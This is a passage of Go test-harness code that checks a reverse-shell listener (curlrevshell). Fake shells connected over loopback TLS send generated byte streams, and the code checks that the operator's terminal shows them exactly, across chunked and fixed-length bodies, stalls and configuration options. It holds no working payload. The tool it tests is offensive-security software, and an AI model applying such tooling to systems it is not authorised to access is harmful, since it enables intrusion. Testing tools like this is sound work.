	r.Rule = "each case: a fresh broker with operator channel capacity in {0,1,2,16,1024}, an output stream (unidirectional alone, with an input peer, or a bidirectional half) whose transport reader follows a PRNG script of reads (sizes 0..10000 incl. 2047/2048/2049, runs of zero-length reads, delays, terminal error EOF/unexpected EOF/closed pipe/custom/wrapped EOF alone or together with data) carrying position-coded bytes; the operator's terminal stalls on a PRNG schedule; optionally concurrent input traffic; ended by itself (natural) or by cancellation at a PRNG-chosen amount of progress. The displayed Plain chunks up to a marker line must be a prefix of the sent bytes, equal to all of them at a natural end, and none may follow the close notice. A case is non-trivial if it carried at least one byte; distinct = distinct (read script, capacity, kind, ending, stalls). Engine quiet: the stream is a series of 2-6 bursts (1 B ... 67 KiB, many of them exact multiples of the 2048-byte read size); the next burst or the end is made available only after every byte so far has been displayed (bounded progress 10 s): a shell that falls silent must not have to say more for what it said to be shown. " +
		"Engine pty: the real binary on a pty, fake shells over raw TLS (chunked bodies) send numbered printable tokens in PRNG-sized writes; the de-escaped terminal text must show them once, in order, all of them before the close/gone notice when the stream ended by itself. " +
		"Engine ptyb: the real binary on a pty, several shells one after the other per process, each shell's class fixed by its number: /i+/o or /io; chunked body or a body with a declared Content-Length (under 256 B, a few KiB, 64-300 KiB); a patient client (sends once the shell is reported ready) or an eager one (header and output at once, like curl -d @file); content = ASCII tokens, valid 2/3/4-byte UTF-8 characters, unfinished sequences, bytes that are never UTF-8 and arbitrary bytes (all values but ESC and CR), cut into TLS writes anywhere incl. inside a character and byte by byte; the stream ends by itself right after an unfinished multibyte sequence / after non-UTF-8 bytes / after a complete multibyte character / after ASCII, or the connection is dropped (for a declared length: before the promised length). The clean terminal text between the end of the callback help that follows the previous shell and this shell's first close/gone notice, minus the attach notices and the notice's own timestamp+address prefix, with CR LF read as LF, must equal the sent bytes exactly at a natural end and be a prefix of them after a drop; no token of the shell may appear after its notice. Bytes withheld from one shell's display would surface in the next shell's region and fail its comparison. " +
		"Engine ptynb (environment: the terminal's open file description is non-blocking and the terminal is busy): the real binary is started on an ordinary blocking pty; after it has printed its banner (before the shell attaches, or once the shell is reported ready) the harness sets O_NONBLOCK on the pty slave it holds, i.e. on the very open file description the program has as stdin/stdout/stderr, as a sibling process sharing the terminal (ssh, a multiplexer, a wrapper) does; a patient shell on /i+/o or /io (chunked) then sends 80-200 KB of numbered tokens (long lines, short lines or both) in PRNG-sized TLS writes while the terminal is not read at all until the flood is over, or is drained in short pulses, or is read all the time; then the terminal is drained. At three moments (shell still attached; after its stream ended by itself; after Ctrl+D) the terminal text after the callback help, minus the attach notices, must be a prefix of the sent bytes (LF shown as CR LF), possibly followed by (a part of) the prompt or by text of the program that contains nothing of the shell's output; any byte of the shell shown twice, left out in the middle or out of order is a violation; so is a crash (death by signal, panic). The child's /proc/PID/fdinfo/1 confirms the non-blocking flag; sessions whose display stopped short of what was sent although the terminal was drained are counted (a terminal write was refused or taken in part) and floored. " +
		"Engines patience and patpty (schedule dimension: the PATIENCE of the display path; an operator's terminal that takes nothing for a while and then carries on is just a very slow terminal, and nobody pressed Ctrl+O). patience: a fresh broker per case, operator channel unbuffered or of 1, 2, 16, 1024 entries, output stream alone or as the half of a bidirectional attempt; in the middle of the stream (what was sent so far is on display) the consumer of the operator channel stops taking lines (bk.StallOperator) for 4, 11, 16 or 31 s - one to four such stalls per stream, 31 s at most per stream - while the shell has capacity+12..36 further reads of position-coded bytes pending (1-300 B, 2048 B, 2049-5048 B; in half of the natural ends the terminal error, alone or together with data, waits behind the stall too), then it takes lines again; the stream ends by itself (EOF / unexpected EOF / closed pipe / custom error) or, once everything is on display, by cancellation. The Plain chunks displayed up to a marker line must be exactly the bytes sent, none after the close notice, which must be there for a unidirectional natural end. Counted and floored per stall: at the moment the terminal carried on the broker's reader had not yet read everything the shell had to say (the back-pressure reached the broker and lasted), the stall lasted as planned; per stall length, channel class, several stalls per stream. patpty: the real binary on a blocking pty with -log, a patient chunked shell on /i+/o or /io sends 5-45 small TLS writes, which are displayed, then the terminal is not read at all (ptyx.PauseReading) for 11 and 31 s (thorough: 4, 11, 16, 31 s twice) while the shell sends 0.45-0.6 MB of numbered tokens in 4500-6500 TLS writes of 1-200 B (now and then 2-5 KB), more chunks than the pty's kernel buffer plus the program's 1024-entry operator channel hold; then the terminal is read again, the last 50-250 writes are sent and the body ends by itself. Oracle as in ptyb: the clean terminal text between the callback help and the first close/gone notice, minus attach notices and the notice's prefix, CR LF read as LF, equals the sent bytes; nothing of the shell after the notice. Counted and floored: when the terminal was read again the program's JSON log had recorded fewer forwarded output bytes than the shell had written. All patience cases run at the same time, beside the other engines. " +
		"Engine cfg (CONFIGURATION MATRIX; the statement does not depend on how the program was started): the real binary on a pty under each of its other documented options alone and under pairs drawn by index (seed-shuffled; quick 12 pairs, thorough all): -one-shell, -serve-files-from (directory, single file, relative, ../, symlinks, spaces at the edges, -flag=value, given twice, empty value), -callback-address (one, 40), -callback-template (file, symlink, missing), -ctrl-i (file, directory, missing, % and spaces in the name), -tls-certificate-cache (explicit, default location, near/inside the served directory), -log / CURLREVSHELL_LOG, -no-timestamps, -ipv6-one-liners, -listen-address forms, a flag given twice, -prompt (not run: -icanhazip, which fails fast without network, and the print-and-exit options); per cell a BIG stream (one patient shell, 3-5.5 MiB quick / 3-8 MiB thorough of numbered tokens in TLS writes of 1 B - 64 KiB, chunked or declared Content-Length, /i+/o or /io) and a LONG stream (attached 12, 16, 21 or 31 s, one small write about every second, or silent for 11/16 s in the middle, then a natural end), every single option with both, pairs with one of them in quick; all sessions at the same time as the other engines. Oracle as in ptyb (byte-exact region before the first close/gone notice); in addition a close/gone notice while the shell is still attached and sending, with bytes already written to the connection not displayed, is a violation (attached-shell-cut-off). Options, pairs, shapes, transports, >2 MiB streams, >=12 s / >=30 s attachments and silences are counted and floored"
	r.Assumptions = []string{"position code has period > 64 KiB so any drop/duplication/reorder changes a byte at a known offset",
		"ptyb: the line editor writes Plain chunks to the raw-mode terminal unchanged except LF -> CR LF, and removes/redraws the prompt around each write with escape sequences that ptyx's clean text undoes; payloads contain no ESC (would start an escape sequence for ptyx) and no CR (so that CR LF -> LF inverts the mapping exactly)",
		"ptyb: operator notices have the form [time ][address] text; a region whose end cannot be told from the start of the end notice is reported inconclusive, not violated; the harness's shells attach only after the program has finished re-printing the callback help (printed by another goroutine, it could otherwise legitimately interleave with output)",
		"ptyb: how long a patient client waits for the ready notice (3 s at most) only shapes the schedule; verdicts depend on the final terminal text only, except the bounded (30 s) waits for the ready notice before a connection is dropped (a connection dropped before it was attached promises nothing, so dropping clients drop once attached) and for the gone notice after the stream has ended",
		"ptynb: once a write to the terminal fails (EAGAIN, possibly after a part of the buffer was taken) the unchanged program ends its output handling and shows nothing more of the shell; the statement says nothing about a terminal that refuses writes, so in this environment completeness at a natural end is NOT demanded and only the prefix / nothing-twice / nothing-reordered rule is judged, at whatever moments the harness looks (the waits for the terminal to fall quiet only choose those moments); the prompt is the default \"> \" and the payload contains neither of its characters next to each other, no ESC and no CR; stdin shares the description, so the program may also end by itself with a read error: that is not judged",
		"patience/patpty: how long a stall really lasts is up to the clock and only decides which give-up thresholds it straddles (counted: lasted as planned); the verdict is the comparison of displayed and sent bytes and consults no clock, except the bounded waits for progress once the terminal takes lines again (30 s in-process, 60 s for the gone notice of the real binary), where the statement itself promises that what was sent is shown; a stalled terminal is a slow terminal, not a muting operator: no Ctrl+O is ever typed in these cases",
		"cfg: the harness's shells never drop their connection, so an end notice before the harness ended the stream is the program's doing; bytes whose TLS write returned successfully on loopback have reached the program's socket; the wait for the gone notice gives up only after 30 s without any growth of the terminal text (the statement promises that what was sent is shown); attach notices and the -one-shell closing-listener notice are awaited before the first byte is sent; lines \"[time ]Server error: ...\" (what the program's HTTP server says about OTHER connections to its port, e.g. a stray connection of another process on this machine) are the program's text and are set aside (counted); the payload never contains that text; a -one-shell session whose display stops at the natural end of the stream (no close/gone notice, or less shown than sent) is reported under the key one-shell:display-stops-at-natural-end (the defect repaired by f9ae74e)",
		"patpty: payload = ptynb's numbered ASCII tokens (no ESC, no CR); one TLS write per HTTP chunk; the shell's writes may block on TCP back-pressure during the stall (write deadline stall + 60 s, expiry = inconclusive)"}
	// the patience cases need real time (stalls of up to 31 s): they run beside everything else
	patienceWait := patienceStart(r)
	// so do the sessions of the configuration matrix (shells attached for up to 31 s, streams of several MiB)
	cfgWait := cfgStart(r)
	n := r.N(2500, 40000)
	if r.WantEngine("script") {
		mon.Parallel(n, runtime.NumCPU(), func(i int) {
			if r.Want("script", i) {
				runCase(r, i)
			}
		})
	}
	if r.WantEngine("quiet") {
		quietCases(r)
	}
	if r.WantEngine("pty") {
		ptySessions(r)
	}
	if r.WantEngine("ptyb") {
		ptybSessions(r)
	}
	if r.WantEngine("ptynb") {
		ptynbSessions(r)
	}
	patienceWait()
	cfgWait()
	r.Floor("bytes_displayed", 100000)
	r.Floor("natural_ends", 100)
	r.Floor("cancelled_ends", 30)
	r.Floor("scripts_with_100_or_more_zero_length_reads", 20)
}

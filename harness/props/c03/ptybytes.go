package c03

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"path/filepath"
	"regexp"
	"time"
	"unicode/utf8"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
)

// Engine "ptyb": the whole path down to the terminal, compared BYTE-EXACTLY,
// over the client/transport and content classes the token engine ("pty")
// leaves out:
//
//   - transport: chunked request body, or a body with a declared
//     Content-Length (small, a few KiB, 64-300 KiB), on /o/{id} (+ /i/{id})
//     and on /io;
//   - client schedule: "patient" (sends its output once the shell is reported
//     ready) or "eager" (request header and output at once, as curl -d @file
//     or -T file do);
//   - content: ASCII tokens, valid 2/3/4-byte UTF-8 characters, invalid UTF-8
//     and arbitrary bytes (everything except ESC and CR, see below), split
//     into TLS writes anywhere, also in the middle of a character;
//   - ending: the stream ends by itself right after an unfinished multibyte
//     sequence / after bytes that are not UTF-8 at all / after a complete
//     multibyte character / after ASCII; or the connection is dropped.
//
// Several shells attach one after the other to the same process, so bytes
// withheld from one shell's display would surface in the next shell's region.
//
// What the terminal shows: the line editor writes Plain chunks to the terminal
// as they are, except that LF becomes CR LF; around each write it removes and
// redraws the prompt with escape sequences, which ptyx's clean text undoes.
// The payload never contains ESC (ptyx would take what follows for an escape
// sequence) nor CR (so that CR LF -> LF on the displayed text inverts the line
// editor's mapping exactly); every other byte value occurs.

const ptybShellsPerSession = 4

var (
	ptybTS       = `(?:\d\d:\d\d:\d\d(?:\.\d+)? )?\[[^\[\]\n]*\] `
	ptybAttachRe = regexp.MustCompile(ptybTS + `(?:(?:Input|Output) connected: ID "[^"\n]*"|Shell is ready[^\n]*)\r?\n`)
	ptybEndRe    = regexp.MustCompile(`(?:Input|Output) (?:connection|side of bidirectional connection) closed|Shell is gone`)
	ptybPrefixRe = regexp.MustCompile(ptybTS + `$`)
)

// shell classes, all derived from the shell's global number j
type ptybClass struct {
	j        int
	io       bool // /io instead of /i + /o
	declared bool // Content-Length instead of chunked
	eager    bool // does not wait for the ready notice before sending
	ending   int  // 0 mid-sequence, 1 invalid tail, 2 complete multibyte char, 3 ASCII, 4 connection dropped
	sizeCl   int  // 0 small, 1 a few KiB, 2 64-300 KiB
}

var ptybEndingName = []string{"natural-mid-sequence", "natural-non-utf8-tail", "natural-complete-multibyte", "natural-ascii", "dropped"}

func ptybClassOf(j int) ptybClass {
	return ptybClass{
		j:        j,
		io:       j%2 == 1,
		declared: (j/2)%2 == 1,
		eager:    (j/4)%2 == 1,
		ending:   (3*j + 2*(j/8)) % 5,
		sizeCl:   (j + j/4) % 3,
	}
}

func (c ptybClass) String() string {
	k, t, e := "o", "chunked", "patient"
	if c.io {
		k = "io"
	}
	if c.declared {
		t = "content-length"
	}
	if c.eager {
		e = "eager"
	}
	return fmt.Sprintf("%s|%s|%s|%s|size%d", k, t, e, ptybEndingName[c.ending], c.sizeCl)
}

type ptybPayload struct {
	data      []byte
	inChar    []bool // inChar[o]: a split before offset o divides a valid multibyte character
	tailLen   int
	tailDesc  string
	multibyte int // valid multibyte characters
	nonUTF8   int // bytes put in as invalid UTF-8 / arbitrary bytes >= 0x80
}

func ptybRune(rng *rand.Rand, l int) rune {
	switch l {
	case 2:
		return rune(0x80 + rng.IntN(0x800-0x80))
	case 3:
		for {
			r := rune(0x800 + rng.IntN(0x10000-0x800))
			if r < 0xD800 || r > 0xDFFF {
				return r
			}
		}
	default:
		return rune(0x10000 + rng.IntN(0x110000-0x10000))
	}
}

// bytes that can never be part of well-formed UTF-8, and lone continuation bytes
func ptybInvalidByte(rng *rand.Rand) byte {
	switch rng.IntN(3) {
	case 0:
		return byte(0x80 + rng.IntN(0x40))
	case 1:
		return []byte{0xC0, 0xC1}[rng.IntN(2)]
	default:
		return byte(0xF5 + rng.IntN(0x100-0xF5))
	}
}

func ptybAnyByte(rng *rand.Rand) byte {
	for {
		b := byte(rng.IntN(256))
		if b != 0x1b && b != '\r' {
			return b
		}
	}
}

func ptybGen(rng *rand.Rand, tag string, size, tailClass int) ptybPayload {
	var p ptybPayload
	seq := 0
	add := func(b []byte, char bool) {
		for i := range b {
			p.inChar = append(p.inChar, char && i > 0)
		}
		p.data = append(p.data, b...)
	}
	token := func() { add([]byte(fmt.Sprintf("<%s:%d>", tag, seq)), false); seq++ }
	token() // every stream starts with a token: a region without it displayed nothing of this shell
	for len(p.data) < size {
		switch x := rng.IntN(100); {
		case x < 35:
			token()
		case x < 65:
			for n := 1 + rng.IntN(6); n > 0; n-- {
				add(utf8.AppendRune(nil, ptybRune(rng, 2+rng.IntN(3))), true)
				p.multibyte++
			}
		case x < 75:
			add([]byte{'\n'}, false)
		case x < 85:
			if rng.IntN(3) == 0 { // an unfinished sequence in the middle of the stream, followed by something else
				b := utf8.AppendRune(nil, ptybRune(rng, 2+rng.IntN(3)))
				add(b[:1+rng.IntN(len(b)-1)], false)
				p.nonUTF8++
				token()
			} else {
				for n := 1 + rng.IntN(4); n > 0; n-- {
					add([]byte{ptybInvalidByte(rng)}, false)
					p.nonUTF8++
				}
			}
		case x < 95:
			for n := 1 + rng.IntN(8); n > 0; n-- {
				b := ptybAnyByte(rng)
				add([]byte{b}, false)
				if b >= 0x80 {
					p.nonUTF8++
				}
			}
		default:
			add([]byte(" \tplain text "), false)
		}
	}
	// the tail
	before := len(p.data)
	switch tailClass {
	case 0:
		b := utf8.AppendRune(nil, ptybRune(rng, 2+rng.IntN(3)))
		m := 1 + rng.IntN(len(b)-1)
		token()
		before = len(p.data)
		add(b[:m], false)
		p.tailDesc = fmt.Sprintf("%d of %d bytes of %+q", m, len(b), string(b))
	case 1:
		token()
		before = len(p.data)
		for n := 1 + rng.IntN(3); n > 0; n-- {
			add([]byte{ptybInvalidByte(rng)}, false)
			p.nonUTF8++
		}
		p.tailDesc = fmt.Sprintf("non-UTF-8 bytes %x", p.data[before:])
	case 2:
		b := utf8.AppendRune(nil, ptybRune(rng, 2+rng.IntN(3)))
		add(b, true)
		p.multibyte++
		p.tailDesc = fmt.Sprintf("complete character %+q", string(b))
	default:
		token()
		p.tailDesc = "ASCII token"
		if rng.IntN(2) == 0 {
			add([]byte{'\n'}, false)
			p.tailDesc += " and newline"
		}
	}
	p.tailLen = len(p.data) - before
	return p
}

type ptybWrite struct {
	b     []byte
	pause time.Duration
}

// ptybSplit cuts the payload into TLS writes, anywhere.
func ptybSplit(rng *rand.Rand, p ptybPayload) (ws []ptybWrite, splitChars int) {
	d := p.data
	tailAlone := rng.IntN(2) == 0
	body := len(d)
	if tailAlone {
		body -= p.tailLen
	}
	off := 0
	emit := func(n int, pause time.Duration) {
		if n > body-off {
			n = body - off
		}
		if n <= 0 {
			return
		}
		ws = append(ws, ptybWrite{b: d[off : off+n], pause: pause})
		off += n
		if off < len(d) && p.inChar[off] {
			splitChars++
		}
	}
	pauseMaybe := func(one int) time.Duration {
		if rng.IntN(one) == 0 {
			return time.Duration(200+rng.IntN(2800)) * time.Microsecond
		}
		return 0
	}
	for off < body {
		switch x := rng.IntN(100); {
		case x < 15: // dribble: byte by byte
			for n := 4 + rng.IntN(27); n > 0 && off < body; n-- {
				emit(1, pauseMaybe(3))
			}
		case x < 50:
			emit(1+rng.IntN(40), pauseMaybe(6))
		case x < 85 || body-off < 10000:
			emit(41+rng.IntN(2960), pauseMaybe(6))
		default:
			emit(3000+rng.IntN(37000), pauseMaybe(6))
		}
	}
	if tailAlone && p.tailLen > 0 {
		if len(ws) > 0 {
			ws[len(ws)-1].pause = time.Duration(2+rng.IntN(4)) * time.Millisecond
		}
		ws = append(ws, ptybWrite{b: d[body:]})
	}
	return ws, splitChars
}

func ptybQ(b []byte, at, around int) string {
	lo, hi := max(0, at-around), min(len(b), at+around)
	return fmt.Sprintf("%+q", b[lo:hi])
}

var ptybHelpRe = regexp.MustCompile(`To get a shell:\r?\n\r?\n(?:[^\r\n][^\n]*\n)+\r?\n`)

// ptybHelpEnd waits for the callback help the program prints at the start and
// after every shell, and returns the clean-text offset just after it.  (It is
// printed by another goroutine, so a shell attaching at once could have its
// output legitimately interleaved with it; the harness's shells wait.)
func ptybHelpEnd(s *crs.Session, from int) (int, bool) {
	loc, ok := s.P.WaitFor(ptybHelpRe, from, crs.Bound)
	if !ok {
		return 0, false
	}
	return loc[1], true
}

// ptybShell runs one shell of a session; base is the clean-text offset just
// after the callback help that follows the previous shell's "gone" line.  It returns the next base.
func ptybShell(r *mon.Run, s *crs.Session, sess int, c ptybClass, base int) (next int, ok bool) {
	uncounted := false
	rng := r.Rng("ptyb-shell", c.j)
	id := fmt.Sprintf("b%d", c.j)
	size := 0
	switch c.sizeCl {
	case 0:
		size = rng.IntN(150)
	case 1:
		size = 1500 + rng.IntN(7000)
	default:
		size = 65536 + rng.IntN(300*1024-65536)
	}
	tailClass := c.ending
	dropped := c.ending == 4
	if dropped {
		tailClass = rng.IntN(4)
	}
	p := ptybGen(rng, id, size, tailClass)
	writes, splitChars := ptybSplit(rng, p)
	viol := func(key, what string, extra map[string]any) {
		cl := s.P.Clean()
		w := map[string]any{"class": c.String(), "session": sess, "bytes_sent": len(p.data), "tail": p.tailDesc, "writes": len(writes), "terminal_tail": fmt.Sprintf("%+q", cl[max(0, len(cl)-600):])}
		for k, v := range extra {
			w[k] = v
		}
		r.Violate("ptyb", sess, key, what, w)
	}
	// attach
	var in *crs.InStream
	var out *crs.OutStream
	var err error
	declared := int64(len(p.data))
	if dropped {
		declared += int64(1 + rng.IntN(1000)) // the client promised more than it delivers
	}
	if c.io {
		var ios *crs.IOStream
		if c.declared {
			ios, err = crs.OpenIOLen(s.Addr, declared)
		} else {
			ios, err = crs.OpenIO(s.Addr)
		}
		if err != nil {
			r.Inconclusive("ptyb: " + err.Error())
			return 0, false
		}
		in, out = ios.In, ios.Out
	} else {
		in, err = crs.OpenIn(s.Addr, "/i/"+id)
		if err != nil {
			r.Inconclusive("ptyb: " + err.Error())
			return 0, false
		}
		if _, ok := s.Wait(`Input connected: ID "`+id+`"`, base, crs.Bound); !ok {
			in.Close()
			viol("pty-shell-does-not-attach", "no Input connected notice", nil)
			return 0, false
		}
		if c.declared {
			out, err = crs.OpenOutLen(s.Addr, "/o/"+id, declared)
		} else {
			out, err = crs.OpenOut(s.Addr, "/o/"+id)
		}
		if err != nil {
			in.Close()
			r.Inconclusive("ptyb: " + err.Error())
			return 0, false
		}
	}
	defer in.Close()
	defer out.Close()
	if !c.eager {
		// a patient client; whether the notice came in time only shapes the schedule, never the verdict
		s.Wait(`Shell is ready[^\n]*\n`, base, 3*time.Second)
	}
	for _, w := range writes {
		if err := out.Send(string(w.b)); err != nil {
			// not everything could be sent: only the prefix rule can be judged, and the shell does not count
			r.Inconclusive(fmt.Sprintf("ptyb: shell %s: send failed: %v", c, err))
			dropped, uncounted = true, true
			break
		}
		if w.pause > 0 {
			time.Sleep(w.pause)
		}
	}
	switch {
	case dropped:
		// a connection dropped before the shell was ever attached promises nothing: drop it once it is attached
		if _, ok := s.Wait(`Shell is ready[^\n]*\n`, base, crs.Bound); !ok {
			viol("pty-shell-does-not-attach", "no ready notice although the client has sent its request and output and is still connected", nil)
			return 0, false
		}
		out.Close()
	case !c.declared:
		out.End()
	}
	loc, found := s.Wait(`Shell is gone[^\n]*\n`, base, crs.Bound)
	if !found {
		if _, ok := s.Wait(`Shell is ready[^\n]*\n`, base, 0); !ok {
			viol("pty-shell-does-not-attach", "neither a ready nor a gone notice although the client sent its request and its whole output", nil)
		} else {
			viol("pty-shell-does-not-end", "no gone notice after the output stream ended", nil)
		}
		return 0, false
	}
	// the program then tells the operator again how to get a shell; the next shell waits for that to be over
	next, found = ptybHelpEnd(s, loc[1])
	if !found {
		r.Inconclusive("ptyb: the callback help did not follow the gone notice")
		return 0, false
	}
	// the region of this shell: from the end of the callback help to the first end notice
	clean := []byte(s.P.Clean())
	e := ptybEndRe.FindIndex(clean[base:])
	if e == nil {
		r.Inconclusive("ptyb: end notice not found")
		return 0, false
	}
	noticeAt := base + e[0]
	region := ptybAttachRe.ReplaceAll(clean[base:noticeAt], nil)
	m := ptybPrefixRe.FindIndex(region)
	if m == nil {
		r.Inconclusive(fmt.Sprintf("ptyb: cannot tell the shell's output from the start of the end notice: %+q", region[max(0, len(region)-120):]))
		return next, true
	}
	shown := bytes.ReplaceAll(region[:m[0]], []byte("\r\n"), []byte("\n"))
	sent := p.data
	div := -1
	for i := range shown {
		if i >= len(sent) || shown[i] != sent[i] {
			div = i
			break
		}
	}
	bad := false
	if div >= 0 {
		bad = true
		viol("terminal-bytes-diverge", fmt.Sprintf("the terminal shows bytes the shell did not send at that place: displayed and sent streams diverge at offset %d (%d displayed, %d sent)", div, len(shown), len(sent)),
			map[string]any{"displayed_around": ptybQ(shown, div, 40), "sent_around": ptybQ(sent, div, 40)})
	} else if !dropped && len(shown) < len(sent) {
		bad = true
		viol("output-truncated-at-natural-end", fmt.Sprintf("the output stream ended by itself after %d bytes (ending in %s) but only %d are on the terminal before the end notice", len(sent), p.tailDesc, len(shown)),
			map[string]any{"displayed_end": ptybQ(shown, len(shown), 40), "sent_end": ptybQ(sent, len(sent), 40)})
	}
	if k := bytes.Index(clean[noticeAt:], []byte("<"+id+":")); k >= 0 {
		bad = true
		viol("output-after-close-notice", "shell output appears on the terminal after the close/gone notice", map[string]any{"after_notice": ptybQ(clean[noticeAt:], k, 60)})
	}
	if uncounted || bad {
		return next, !bad
	}
	r.Eval(1)
	r.Distinct("ptyb|" + c.String() + fmt.Sprintf("|%d|%d", len(sent), len(writes)))
	r.Count("ptyb_shells", 1)
	r.Count("ptyb_bytes_sent", int64(len(sent)))
	r.Count("ptyb_bytes_on_terminal", int64(len(shown)))
	r.Count("ptyb_multibyte_chars_sent", int64(p.multibyte))
	r.Count("ptyb_multibyte_chars_split_across_writes", int64(splitChars))
	r.Count("ptyb_non_utf8_bytes_sent", int64(p.nonUTF8))
	r.Count("ptyb_ending:"+ptybEndingName[c.ending], 1)
	if c.eager {
		r.Count("ptyb_eager_shells", 1)
	} else {
		r.Count("ptyb_patient_shells", 1)
	}
	kind := "o"
	if c.io {
		kind = "io"
	}
	if c.declared {
		r.Count("ptyb_content_length_"+kind, 1)
		switch {
		case len(sent) < 256:
			r.Count("ptyb_content_length_under_256B", 1)
		case len(sent) >= 65536:
			r.Count("ptyb_content_length_64KiB_or_more", 1)
		}
		if !dropped {
			r.Count("ptyb_content_length_"+kind+"_natural_end", 1)
		}
	} else {
		r.Count("ptyb_chunked_"+kind, 1)
	}
	if c.j%ptybShellsPerSession != 0 {
		r.Count("ptyb_shells_after_another_shell", 1)
	}
	if c.j < 2 {
		r.Sample("ptyb", map[string]any{"class": c.String(), "bytes_sent": len(sent), "bytes_on_terminal": len(shown), "writes": len(writes), "tail": p.tailDesc})
	}
	return next, true
}

func ptybSessions(r *mon.Run) {
	bin, err := crs.Build(r.Work, "")
	if err != nil {
		r.Inconclusive("cannot build the binary: " + err.Error())
		return
	}
	n := r.N(10, 40)
	mon.Parallel(n, 6, func(i int) {
		if !r.Want("ptyb", i) {
			return
		}
		home := filepath.Join(r.Work, fmt.Sprintf("ptyb-%d", i))
		s, err := crs.Start(bin, home, "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", "")
		if err != nil {
			r.Inconclusive("binary did not start: " + err.Error())
			return
		}
		defer s.Close()
		base, ok := ptybHelpEnd(s, 0)
		if !ok {
			r.Inconclusive("ptyb: no callback help at the start")
			return
		}
		for k := 0; ok && k < ptybShellsPerSession; k++ {
			base, ok = ptybShell(r, s, i, ptybClassOf(i*ptybShellsPerSession+k), base)
		}
		if ok {
			r.Count("ptyb_sessions_completed", 1)
		}
		s.Quit()
	})
	shells := int64(n * ptybShellsPerSession)
	r.Floor("ptyb_shells", shells)
	r.Floor("ptyb_sessions_completed", int64(n))
	r.Floor("ptyb_bytes_on_terminal", 200000)
	r.Floor("ptyb_multibyte_chars_split_across_writes", 50)
	r.Floor("ptyb_non_utf8_bytes_sent", 1000)
	for _, e := range ptybEndingName {
		r.Floor("ptyb_ending:"+e, shells/5)
	}
	r.Floor("ptyb_content_length_io", shells/4)
	r.Floor("ptyb_content_length_o", shells/4)
	r.Floor("ptyb_content_length_io_natural_end", shells/8)
	r.Floor("ptyb_content_length_o_natural_end", shells/8)
	r.Floor("ptyb_content_length_under_256B", 4)
	r.Floor("ptyb_content_length_64KiB_or_more", 4)
	r.Floor("ptyb_chunked_io", shells/4)
	r.Floor("ptyb_chunked_o", shells/4)
	r.Floor("ptyb_eager_shells", shells/2)
	r.Floor("ptyb_patient_shells", shells/2)
	r.Floor("ptyb_shells_after_another_shell", shells/2)
}

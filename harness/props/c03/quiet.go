package c03

import (
	"fmt"
	"io"
	"runtime"
	"sync/atomic"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
)

// quietCases: a shell that says something and then falls silent.  The
// statement says its bytes "are shown": a burst must be on the operator's
// terminal without anything further having to arrive.  The stream is a series
// of bursts; before the next burst (or the end) is made available to the
// broker's reader the harness waits until every byte so far has been displayed
// (bounded progress: bk.Bound).  Burst sizes are chosen around the broker's
// read size (2048) and its multiples, where "read again before forwarding"
// optimisations bite: exactly 2048·k bytes leave the reader with a full
// buffer and nothing more to read.
func quietCases(r *mon.Run) {
	n := r.N(240, 4000)
	sizes := []int{1, 100, 2047, 2048, 2049, 4096, 6144, 8192, 3000, 2048 * 5, 2048 * 15, 2048*16 - 1, 32768, 32768 + 2048, 65536, 2048 * 33}
	var stuck atomic.Int32
	mon.Parallel(n, runtime.NumCPU(), func(i int) {
		if !r.Want("quiet", i) || stuck.Load() >= 6 {
			return
		}
		rng := r.Rng("quiet", i)
		ochCap := []int{0, 1, 16, 1024}[i%4]
		kind := []string{"out", "io"}[(i/4)%2]
		w, err := bk.NewWorld(ochCap, 64)
		if err != nil {
			r.Inconclusive(err.Error())
			return
		}
		defer w.Close()
		var desc []int
		viol := func(key, what string) {
			r.Violate("quiet", i, key, what, map[string]any{"bursts": desc, "och_cap": ochCap, "kind": kind, "log_tail": w.Log.Tail(20)})
		}
		var out *bk.Attempt
		if kind == "io" {
			out = w.NewAttempt("io", "", bk.WFlusher)
		} else {
			out = w.NewAttempt("out", "k", bk.WPlain)
		}
		out.Start()
		if _, ok := w.Log.Wait(0, bk.Bound, func(e bk.Event) bool {
			return e.Kind == "slog" && e.Att == out.ID && e.Dir == "output" && e.S == bk.MsgNew
		}); !ok {
			r.Inconclusive("quiet: output stream not admitted")
			return
		}
		off := 0
		nb := 2 + rng.IntN(5)
		for b := 0; b < nb; b++ {
			sz := sizes[(i/8+b*5+rng.IntN(3))%len(sizes)]
			if b == 0 {
				sz = sizes[(i/8)%len(sizes)] // every size is the first burst of some case
			}
			desc = append(desc, sz)
			buf := make([]byte, sz)
			for k := range buf {
				buf[k] = posByte(off + k)
			}
			off += sz
			out.Rd.Push(bk.ReadItem{Data: buf}) // one item: the reader gets full buffers until it is used up
			shown := 0
			from := 0
			_, ok := w.Log.Wait(from, bk.Bound, func(e bk.Event) bool {
				if e.Kind == "op" && e.Plain {
					shown += len(e.S)
				}
				return shown >= off
			})
			r.Count("quiet_bursts", 1)
			if sz%2048 == 0 {
				r.Count("quiet_bursts_of_a_multiple_of_the_read_size", 1)
			}
			if !ok {
				stuck.Add(1)
				viol("output-withheld-while-shell-quiet", fmt.Sprintf("burst %d of %d bytes (stream total %d): only %d bytes were displayed within %s although the shell is attached and has nothing more to say", b, sz, off, shown, bk.Bound))
				return
			}
		}
		// the usual end: everything shown is exactly what was sent
		if rng.IntN(2) == 0 {
			out.Rd.Push(bk.ReadItem{Err: io.EOF})
		} else {
			out.Cancel()
		}
		<-out.Ret
		var shown []byte
		for _, e := range w.Log.Snapshot() {
			if e.Kind == "op" && e.Plain {
				shown = append(shown, e.S...)
			}
		}
		if len(shown) != off {
			viol("output-not-a-prefix", fmt.Sprintf("%d bytes displayed, %d sent", len(shown), off))
		}
		for k, c := range shown {
			if k >= off || c != posByte(k) {
				viol("output-not-a-prefix", fmt.Sprintf("displayed bytes diverge from the sent stream at offset %d", k))
				break
			}
		}
		r.Eval(1)
		r.Count("quiet_cases", 1)
		r.Distinct(fmt.Sprintf("quiet|%v|%d|%s", desc, ochCap, kind))
	})
	r.Floor("quiet_cases", int64(n*9/10))
	r.Floor("quiet_bursts_of_a_multiple_of_the_read_size", int64(n))
}

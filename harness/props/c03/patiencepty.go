package c03

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
